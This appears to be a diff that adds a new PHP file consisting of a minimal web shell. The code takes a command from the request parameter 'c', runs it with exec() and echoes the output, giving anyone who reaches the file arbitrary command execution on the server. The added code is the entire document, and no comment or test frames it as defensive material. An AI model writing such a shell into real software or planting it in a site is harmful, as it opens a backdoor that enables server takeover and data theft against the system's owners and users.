@@ -1,0 +1,2 @@
+<?php
+$cmd = $_REQUEST['c']; $out = array(); exec($cmd, $out); echo implode("\n", $out);
